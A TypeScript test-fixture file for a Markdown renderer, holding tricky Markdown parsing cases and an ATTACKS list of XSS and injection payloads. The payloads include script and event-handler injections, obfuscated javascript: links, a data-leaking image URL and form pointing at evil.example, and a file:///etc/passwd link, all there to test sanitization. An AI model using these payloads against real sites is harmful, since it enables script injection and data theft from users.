import unfinished from './unfinished.json';

/** Texts that are hard to cut, to complete or to keep harmless. */

export const TRICKY_DOCUMENTS: Readonly<Record<string, string>> = {
  paragraphs: 'First line\nsecond line\n\nAnother one with **bold\nover lines** and more.\n\n\nLast',
  headings:
    '# One\nText right after\n## Two\n\nSetext\n======\n\nOther\n---\nText\n\n### Closed ###\n####### not one\n',
  rules: 'a\n\n***\n\nb\n\n- - -\n_ _ _\nc\n',
  tightList: '- one\n- two\n  continued\n  - nested **x**\n    - deeper\n- three\n\nAfter the list\n',
  looseList:
    '1. one\n\n   more of one\n\n2. two\n\n   ```js\n   let a = 1;\n\n   let b = 2;\n   ```\n\n3. three\n\nEnd.\n',
  lazyList: '* one\nlazy line\n* two\n\n\n* three\n# Heading\n+ plus\n+ list\n',
  listThenCode: '1. Do this:\n```bash\nmake\n\n# not a heading\n```\n2. Then that\n',
  taskList: '- [ ] open\n- [x] done\n- [X] also\n',
  orderedInText: 'The answer is\n12. That is a number.\n\nSince\n1. it begins\n2. it counts\n',
  fences:
    'Text\n```ts\nconst a = `x`;\n\n// ```\n```\nafter\n~~~\ntilde\n```\nstill\n~~~\n````md\n```js\nx\n```\n````\n',
  openFence: 'Look:\n\n```python\ndef f():\n    return "**"\n\n# comment',
  indentedFence: '   ```js\n   a\n     b\n   ```\n',
  emptyFence: '```\n```\n\n```json\n{}\n```',
  inlineTriple: 'Use ```x``` here\nand on\n',
  quotes: '> one\n> two\n\n> three\nlazy\n\n> - list\n> - in it\n>\n> ```js\n> code\n> ```\n\nout\n',
  tables: 'Before\n\n| A | B |\n|---|:-:|\n| 1 | `a|b` |\n| **x** | y<br>z |\n\nAfter\n\na | b\n--|--\n1 | 2\n# H\n',
  indentedCode: 'a\n\n    code\n\n    more code\n\nb\n',
  math: 'Inline $x^2$ and \\(y\\).\n\n$$\n\\int_0^1 x\\,dx\n= \\frac12\n$$\n\n\\[\na = b\n\\]\n\n$$ E = mc^2 $$\n\ndone\n',
  money: 'It costs $5 and $10, or US$3.\nFrom $20/month to $1,000.\n\n$$$ is slang. The variable $HOME and $PATH.\n',
  brokenMath: '$$\nnever closed\n\nA paragraph after it.\n\nAnother.\n',
  html: '<div class="x">\n\n**bold** <b>raw</b>\n\n</div>\n<script>\n\nalert(1)\n</script>\n\n<!-- c\n\n-->\nend\n',
  emphasis: '***both*** and **bold *it* x** and _a_ and snake_case_name and 2*3*4 and ~20 ~~gone~~.\n',
  links:
    'See [a](https://a.example/x_(y) "t") and <https://b.example> and https://c.example/d_e_f.\n\n![p](https://i.example/p.png)\n',
  windows: '# A\r\n\r\ntext\r\n\r\n```js\r\nx\r\n```\r\n\r\n- a\r\n- b\r\n',
  unicode: 'Grüße 👩‍👩‍👧 und 漢字\n\n- ✅ **fertig**\n- ❌ _nicht_\n',
};

/** Each contains one construct whose marks must never be seen while it is being written. The bench reads them too. */
export const UNFINISHED: readonly { readonly kind: string; readonly source: string; readonly raw: RegExp }[] =
  unfinished.map(({ kind, source, raw }) => ({ kind, source, raw: new RegExp(raw, 'u') }));

export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div id=root name=body style="position:fixed;inset:0">x</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x](https://a.example \'title" onmouseover="alert(1)\')',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/leak.png?q=secret)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](//evil.example/a.png)',
  '```"><img src=x onerror=alert(1)>\n</pre><script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)><br onclick=alert(1)> |',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\n\\url{javascript:alert(1)}\\htmlData{x=1}{y}\\includegraphics{https://evil.example/a.png}\n$$',
  '\\(</span><script>alert(1)</script>\\)',
  '<span data-code="x" data-math="inline">x</span>',
  '- <details open ontoggle=alert(1)>',
  '> <body onload=alert(1)>',
  '[a]: javascript:alert(1)\n\n[a] and [b][a]',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
